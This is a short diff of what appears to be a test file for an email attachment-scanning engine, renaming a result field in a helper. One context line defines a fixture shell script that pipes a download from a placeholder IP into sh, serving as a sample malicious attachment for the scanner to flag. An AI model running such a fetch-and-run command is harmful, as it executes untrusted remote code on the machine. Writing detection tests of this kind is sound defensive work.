@@ -32,7 +32,7 @@ SCRIPT = b"#!/bin/sh\ncurl http://203.0.113.9/x | sh\n"
 
 async def codes(raw: bytes, **options: object) -> tuple[str, list[str], list]:
     tx, out = await run_engine({"attachments": options}, raw, SENDER, [RCPT])
-    return out["data"].action, [d.finding.code for d in tx.decisions], tx.decisions
+    return out["data"].outcome, [d.finding.code for d in tx.decisions], tx.decisions
 
 
 def one(name: str, data: bytes, ctype: str = "application/octet-stream") -> bytes:
